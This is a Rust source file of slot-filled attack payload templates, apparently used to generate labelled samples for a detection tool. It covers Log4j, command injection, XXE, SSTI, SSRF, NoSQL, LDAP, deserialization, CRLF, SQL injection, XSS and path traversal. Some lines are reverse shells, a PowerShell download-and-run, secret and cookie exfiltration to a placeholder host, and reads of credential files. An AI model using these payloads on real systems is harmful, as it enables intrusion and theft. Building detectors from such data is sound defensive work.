//! Templates of attacks. `«slot»`s are filled, `␤` is a line end.

use jotwatch_models::payload::Class;

/// Attacks: class, copies of each template, templates.
pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
    (Class::Log4j, 12, "
        ${jndi:«jndi»://«host»/«w»}
        ${jndi:«jndi»://«host»:«n»/«w»«n»}
        ${${lower:j}ndi:«jndi»://«host»/«w»}
        ${${lower:j}${upper:n}${lower:d}${upper:i}:«jndi»://«host»/«w»}
        ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://«host»/«w»}
        ${${env:«w»:-j}ndi${env:«w»:-:}${env:«w»:-l}dap${env:«w»:-:}//«host»/a}
        ${j${k8s:k5:-ND}i:«jndi»://«host»/«w»}
        ${jndi:${lower:l}${lower:d}a${lower:p}://«host»/«w»}
        ${jndi:«jndi»://127.0.0.1#«host»/«w»}
        ${jndi:«jndi»://${env:AWS_SECRET_ACCESS_KEY}.«host»/«w»}
        ${jndi:«jndi»://${hostName}.«host»/«w»}
        ${jn${lower:d}i:l${lower:d}ap://«host»/«w»}
        ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:«jndi»://«host»/a}
        ${env:AWS_SECRET_ACCESS_KEY}
        ${sys:java.version}
        ${jndi:dns://${java:os}.«host»}
    "),
    (Class::Cmdi, 6, "
        () { :;}; «cmd»
        () { :; }; /bin/bash -c '«cmd»'
        () { «w»;}; echo; «cmd»
        () { _; } >_[$($())] { «cmd»; }
        «w»«sep»«cmd»
        «n»«sep» «cmd»
        «w»«sep»«cmd»«tail»
        $(«cmd»)
        «w»$(«cmd»)
        `«cmd»`
        «w»`«cmd»`
        \";«cmd»;\"
        '«sep»«cmd»«sep»'
        \" «sep» «cmd» #
        «n».«n».«n».«n» «sep» «cmd»
        «w».txt«sep»«cmd»
        {cat,/etc/passwd}
        cat$IFS/etc/«file»
        «sep»cat${IFS}/etc/«file»
        «sep»c'a't /etc/«file»
        «sep»c\\at /etc/«file»
        «sep»/???/c?t /etc/«file»
        «cmd» > /dev/null 2>&1
        bash -i >& /dev/tcp/«n».«n».«n».«n»/«n» 0>&1
        nc -e /bin/sh «host» «n»
        rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc «host» «n» >/tmp/f
        powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://«host»/«w»')\"
        cmd.exe /c «wincmd»
        «sep» «wincmd»
        | «wincmd»
        <?php «phpfn»($_GET['«w»']); ?>
        <?php echo «phpfn»('«cmd»');?>
        <?=`$_GET[0]`?>
        «phpfn»('«cmd»');
        ;«phpfn»(\"«cmd»\");
        ${@«phpfn»('«cmd»')}
        ';«phpfn»(\"«cmd»\");//
        __import__('os').system('«cmd»')
        __import__('os').popen('«cmd»').read()
        eval(compile('import os; os.system(\"«cmd»\")','','exec'))
        require('child_process').exec('«cmd»')
        global.process.mainModule.require('child_process').execSync('«cmd»')
        Runtime.getRuntime().exec(\"«cmd»\")
        new java.lang.ProcessBuilder(\"«cmd»\").start()
        system('«cmd»')
        perl -e 'system(\"«cmd»\")'
        python -c 'import os;os.system(\"«cmd»\")'
        «cmdpath»
        «cmdpath»
        ls -la /«w»
        ping -n «n» 127.0.0.1
        ping.exe -n «n» 127.0.0.1
        «n»;«cmd»
        «sep»«cmd»«sep»
        «cmd»;
        «cmd»|
        «w»=«cmd»;$«w»
        «sep»x='«cmd»';$x
        «sep»x=$'«cmd»';$x
        x=\"«cmd»\";$x
        «sep» type %SYSTEMROOT%\\«w».ini
        type %WINDIR%\\«w»\\«w»
        echo %USERNAME%
    "),
    (Class::Xxe, 8, "
        <?xml version=\"1.0\"?><!DOCTYPE «w» [<!ENTITY «w» SYSTEM \"«xxe»\">]><«w»>&«w»;</«w»>
        <!DOCTYPE «w» [<!ELEMENT «w» ANY><!ENTITY xxe SYSTEM \"«xxe»\">]><«w»>&xxe;</«w»>
        <!DOCTYPE «w» [<!ENTITY % «w» SYSTEM \"«xxe»\"> %«w»;]>
        <?xml version='1.0' encoding='UTF-8'?><!DOCTYPE «w» PUBLIC \"-//«W»\" \"«xxe»\"><«w»/>
        <!DOCTYPE «w» SYSTEM \"«xxe»\">
        <«w» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"«xxe»\"/></«w»>
        <!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>
        <!--#exec cmd=\"«cmd»\" -->
        <!--#include file=\"/etc/«file»\" -->
        <!--#echo var=\"«w»\" -->
        <!--#include virtual=\"/«w»/«w»\" -->
        <!--#printenv -->
        <!--#config errmsg=\"«w»\"-->
        <pre><!--#exec cmd=\"«cmd»\" --></pre>
        <pre><!--#echo var=\"«w»\" --></pre>
        <!--#exec cmd=\"«cmd»\" --><br/>
        <esi:include src=\"http://«host»/«w»\"/>
    "),
    (Class::Ssti, 6, "
        {{«n»*«n»}}
        «w»{{«n»*'«n»'}}
        ${«n»*«n»}
        #{«n»*«n»}
        *{«n»*«n»}
        @(«n»*«n»)
        <%= «n» * «n» %>
        {{config}}
        {{config.items()}}
        {{self.__init__.__globals__.__builtins__}}
        {{''.__class__.__mro__[«n»].__subclasses__()}}
        {{request.application.__globals__.__builtins__.__import__('os').popen('«cmd»').read()}}
        {{lipsum.__globals__['os'].popen('«cmd»').read()}}
        {{cycler.__init__.__globals__.os.popen('«cmd»').read()}}
        {% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"«cmd»\").read()}}{%endif%}{%endfor%}
        {{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"«cmd»\")}}
        {{['«cmd»']|filter('system')}}
        <#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"«cmd»\") }
        #set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) $rt.getRuntime().exec('«cmd»')
        <%= system('«cmd»') %>
        <%= `«cmd»` %>
        <%= File.open('/etc/«file»').read %>
        {php}echo `«cmd»`;{/php}
        {system('«cmd»')}
        ${T(java.lang.Runtime).getRuntime().exec('«cmd»')}
        %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='«cmd»')}
        ${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"«cmd»\").getInputStream(),\"utf-8\"))}
        #{T(java.lang.System).getenv()}
        ${''.getClass().forName('java.lang.Runtime')}
        class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{«w»}i
        {{constructor.constructor('alert(1)')()}}
        {{$on.constructor('alert(1)')()}}
        {{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(«n»,«n»))()}}
    "),
    (Class::Ssrf, 8, "
        http://169.254.169.254/latest/meta-data/«w»
        http://169.254.169.254/latest/meta-data/iam/security-credentials/«w»
        http://metadata.google.internal/computeMetadata/v1/«w»
        http://100.100.100.200/latest/meta-data/
        http://127.0.0.1:«n»/«w»
        http://localhost:«n»/«w»
        http://[::1]:«n»/«w»
        http://0.0.0.0:«n»/
        http://2130706433/«w»
        http://0x7f000001/
        http://0177.0.0.1/
        http://127.1/
        http://10.0.0.«n»/«w»
        http://192.168.«n».«n»:«n»/«w»
        gopher://127.0.0.1:6379/_«w»
        gopher://«host»:25/_MAIL%20FROM
        dict://localhost:11211/stat
        file:///etc/«file»
        ldap://«host»/«w»
        sftp://«host»:«n»/
        http://«w».com@«host»/
        http://«w».com\\@«host»
        http://127.0.0.1.nip.io/«w»
        http://«h».oastify.com
        http://«h».burpcollaborator.net/«w»
        netdoc:///etc/«file»
        jar:http://«host»/«w»!/
    "),
    (Class::Nosql, 10, "
        {\"$ne\": null}
        {\"$gt\": \"\"}
        {\"$regex\": \".*\"}
        {\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}
        {\"$where\": \"sleep(«n»)\"}
        «w»[$ne]
        «w»[$regex]=.*
        [$gt]=
        [$nin][]
        '; return true; var «w»='
        ';return this.«w»=='«w»';//
        ' || '1'=='1
        ' || 1==1//
        ' && this.password.match(/.*/)//
        true, $where: '1 == 1'
        ', $or: [ {}, { '«w»':'«w»
        db.«w».find({$where: function() { return true; }})
        {\"$or\":[{},{\"«w»\":\"«w»\"}]}
    "),
    (Class::Ldap, 10, "
        *)(uid=*))(|(uid=*
        *)(&
        «w»*)((|userPassword=*)
        *)(|(«w»=*
        «w»)(&(objectClass=*)
        *)(objectClass=*))(&(objectClass=void
        admin)(!(&(1=0
        (|(«w»=*)(«w»=*))
        ' or count(/*)=1 or '1'='2
        '] | //user/*[contains(*,'
        ' or //*[name()='«w»'] or '
        x' or name()='«w»' or 'x'='y
        ' and string-length(name(/*[1]))=«n» and '1'='1
    "),
    (Class::Deserialization, 16, "
        rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaML«b64»
        rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZv«b64»
        gASV«b64»
        gAN9cQAoWAQAAA«b64»
        AAEAAAD/////AQAAAAAAAAAMAgAAAE«b64»
        O:«n»:\"«W»\":«n»:{s:«n»:\"«w»\";s:«n»:\"«w»\";}
        O:8:\"stdClass\":1:{s:4:\"«w»\";b:1;}
        a:«n»:{i:0;O:«n»:\"«W»\":0:{}}
    "),
    (Class::Crlf, 10, "
        «w»%0d%0aSet-Cookie:%20«w»=«w»
        «w»%0aSet-Cookie:«w»=«w»
        %0d%0aLocation:%20http://«host»
        /«w»%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK
        «w»%E5%98%8A%E5%98%8DSet-Cookie:%20«w»
        %0d%0aX-«W»:%20«w»
        «n»%0a«upper»:%20«w»%20«w»
        «w»%0d%0a«upper»:%20«text»
        «w»%0a%0d«upper»%20-%20«w»
        «n»%0a«upper»%20«upper»:%20«w»%20«w»
    "),
    (Class::Sqli, 6, "
        «brk»«sp»«bool»«sp»«truth»«end»
        «brk»«sp»«bool»«sp»«truth»
        «n»«sp»«bool»«sp»«numtruth»
        «n»«sp»«bool»«sp»«numtruth»«end»
        «w»«brk»«sp»«bool»«sp»«truth»«end»
        «brk»«sp»union«sp»«all»select«sp»«cols»«end»
        -«n»«sp»union«sp»«all»select«sp»«cols»«from»«end»
        «n»«sp»union«sp»«all»select«sp»«cols»«from»
        union«sp»«all»select«sp»«cols»
        «brk»;«sp»«stmt»«end»
        «n»;«sp»«stmt»«end»
        ;«stmt»«end»
        «brk»«sp»and«sp»(select«sp»«sqlfn»«from»)«cmp»«n»«end»
        «n»«sp»and«sp»(select«sp»«n»«sp»from(select(sleep(«n»)))«w»)
        «n»«sp»and«sp»«sqlfn»«cmp»«n»
        «brk»«sp»and«sp»«sqlfn»«cmp»«n»«end»
        «brk»«sp»or«sp»«time»«end»
        «n»«sp»or«sp»«time»
        «brk»«sp»order«sp»by«sp»«n»«end»
        «n»«sp»order«sp»by«sp»«n»«end»
        «brk»«sp»group«sp»by«sp»«w»«sp»having«sp»«numtruth»«end»
        «brk»«sp»having«sp»«numtruth»«end»
        «n»«sp»procedure«sp»analyse(extractvalue(rand(),concat(0x3a,version())),1)
        «brk»||(«sqlfn»)||'
        «brk»+(select«sp»«sqlfn»)+'
        «w»'«end»
        admin'«end»
        «w»' or '«w»' like '«w»
        «w»\" or \"«w»\"=\"«w»
        ' or «w» is not null«end»
        '=''or'
        '-'
        '^'
        (select(0)from(select(sleep(«n»)))v)
        if(now()=sysdate(),sleep(«n»),0)
        «n»*if(now()=sysdate(),sleep(«n»),0)
        «n» and 1=(select count(*) from «w»)
        «n» rlike (select (case when («n»=«n») then 1 else 0x28 end))
        «time»
        select«sp»«cols»«sp»from«sp»«systable»
        select * from «w»«end»
        select «w» from «w» where «numtruth»«end»
        «n»'||utl_http.request('http://«host»/')||'
        «n» into outfile '/var/www/«w».php'
        «n»,(case when «numtruth» then «n» else null end)
        (case when «numtruth» then «n» else «n»*(select «n» from «systable») end)
        iif(«numtruth»,1,1/0)
        «n»«brk» where «numtruth»«end»
        «n» where «numtruth»;iif(«numtruth»,1,1/0)
        «brk»«sp»where«sp»«numtruth»«sp»«bool»«sp»«sqlfn»
        «n»;select (case when «numtruth» then 1 else 0 end)
        «n»«brk» rlike sleep(«n») «bool» '«w»'='«w»
        «n»«brk» procedure analyse()«end»
        «n» «bool» make_set(«numtruth»,«n»)
        «n»«brk» in boolean mode) union all select «cols»«end»
        «brk»||(select '«w»' where «numtruth»)||'
        «brk») as «w» where «numtruth» «bool» «sqlfn»«end»
        «n»«brk»;declare @x char(9);set @x=0x«h»;waitfor delay '0:0:«n»'«end»
        extractvalue(«n»,concat(0x7e,(select«sp»«sqlfn»)))
        {{\"«w»\":\"«brk» or «truth»«end»\"}}
    "),
    (Class::Xss, 6, "
        <«tag» «handler»=«js»>
        <«tag»/«handler»=«js»>
        <«tag» src=x «handler»=«js»>
        <«tag» src=x «handler»=\"«js»\">
        \"><«tag» «handler»=«js»>
        '><«tag» «handler»='«js»'>
        <script>«js»</script>
        \"><script>«js»</script>
        '><script>«js»</script>
        </script><script>«js»</script>
        </title><script>«js»</script>
        <scr<script>ipt>«js»</scr</script>ipt>
        <script src=//«host»></script>
        <script src=\"http://«host»/«w».js\"></script>
        \" «handler»=\"«js»
        ' «handler»='«js»
        \" autofocus «handler»=«js» x=\"
        javascript:«js»
        java\tscript:«js»
        <a href=\"javascript:«js»\">«w»</a>
        <a href=java&#115;cript:«js»>«w»</a>
        <iframe src=\"javascript:«js»\"></iframe>
        <iframe srcdoc=\"<script>«js»</script>\">
        <object data=\"data:text/html;base64,«b64»\">
        <embed src=\"data:image/svg+xml;base64,«b64»\">
        <svg><script>«js»</script></svg>
        <svg><animate onbegin=«js» attributeName=x>
        <math><a xlink:href=\"javascript:«js»\">«w»
        <style>@import'http://«host»/«w».css';</style>
        <div style=\"width:expression(«js»)\">
        <meta http-equiv=\"refresh\" content=\"0;url=javascript:«js»\">
        <link rel=stylesheet href=//«host»/x.css>
        <base href=//«host»/>
        <form action=javascript:«js»><input type=submit>
        <button formaction=javascript:«js»>«w»
        <body onload=«js»>
        <input onfocus=«js» autofocus>
        <details open ontoggle=«js»>
        <video><source onerror=\"«js»\">
        <x onclick=«js»>«w»
        ';«js»//
        \";«js»//
        '-«js»-'
        \"-«js»-\"
        ';«js»;'
        </script>«js»
        `${«js»}`
        [].constructor.constructor('«js»')()
        window['al'+'ert'](«n»)
        top[\"al\"+\"ert\"](«n»)
        eval(atob('«b64»'))
        setTimeout('«js»',0)
        document.location='http://«host»/?c='+document.cookie
        new Image().src='http://«host»/?'+document.cookie
        fetch('//«host»/'+document.cookie)
        <img src=x onerror=eval(String.fromCharCode(«n»,«n»,«n»))>
        &lt;script&gt;«js»&lt;/script&gt;
        \\u003cscript\\u003e«js»\\u003c/script\\u003e
        \\x3cscript\\x3e«js»
        <<script>«js»//<</script>
        <img \"\"\"><script>«js»</script>\">
        «w»=eval;«w»=alert;«w»(«w»(«n»));//
        «brk»;a=alert;a(«n»)//
        _=alert;_(«n»)
        with(document)«js»
        <isindex type=image src=1 onerror=«js»>
        <marquee onstart=«js»>
    "),
    (Class::Traversal, 5, "
        «climb»«target»
        /«climb»«target»
        «w»/«climb»«target»
        /«w»/«climb»«target»
        «climb»«target»%00
        «climb»«target»%00.«ext»
        «climb»«climb»«target»
        /var/www/«w»/«climb»«target»
        «target»
        /«target»
        «w»=«climb»«target»
        c:\\«wintarget»
        c:/«wintarget»
        C:\\Windows\\«wintarget»
        file:///«target»
        file://localhost/«target»
        php://filter/convert.base64-encode/resource=«w»
        php://input
        expect://«cmd»
        phar://«w»/«w».phar
        zip://«w».zip#«w»
        data://text/plain;base64,«b64»
        ..%5c..%5c«wintarget»
        \\\\«host»\\c$\\«w»
        /.git/config
        /.env
        /.ssh/id_rsa
        /WEB-INF/web.xml
        /..;/«w»
        /static/..%2f..%2f«target»
        /proc/self/«proc»
        /var/log/«log»
        /etc/«file»
        /etc/«w»/«w».conf
        /etc/«w».conf
        /«root»/«w»/«w».«own»
        /«root»/«w»/«w»/«w»/«w».«own»
        /«root»/logs/«w»_log
        /«root»/«w»/log/«w»
        /«root»/«log»%00
        /proc/«w»/«w»
        /proc/«n»/fd/«n»
        «drive»\\«w»\\«w».«own»
        «drive»\\«w»\\logs\\«w».«own»
        «drive»/«w»/«w»/«w».«own»
        «drive»/Program Files/«w»/logs/«w».log
        «drive»\\windows\\system32\\config\\«w»
        «drive»/windows/«w».«own»
        \\Program Files\\«W» Group\\«w»\\logs\\«w».log
        /./././././././«target»
        /./.././../«target»
        /0x2e0x2e0x2f0x2e0x2e0x2f«target»
        ..0x2f..0x2f«target»
        ..2f..2f..2f«target»
        /..%uf025..%uf025«target»
        /./\\/././\\/././\\/./
        /.\\/\\.\\.\\/\\.\\
        /./././././././././
        /..\\
        //..\\/..\\/..\\
        /...\\...\\...\\
        ..0x2f..0x2f
        /0x2e0x2e/0x2e0x2e/
        /..//..//..//
        ..2f«w»2f«w»
        «drive»\\«serverdir»\\«w»\\«w».«w»
        \\«serverdir»\\«w»\\«w».«w»
        /«serverdir»/«w»/«w»/«w».«w»
        /etc/«w»
        /etc/«w».d/«w»
        /etc/«w».«w»
        /etc/«w»-«w»
        /etc/«w»/«w».«w»
        /etc/«w»/«w»/«w»
        /etc/«w».d/«w».«w»
        «drive»/«w».«own»
        «drive»\\«w»\\«w»
        /.../.../
        /..0x5c..0x5c«target»
        /..%2f..%2f
        //..//..//..//
    "),
];
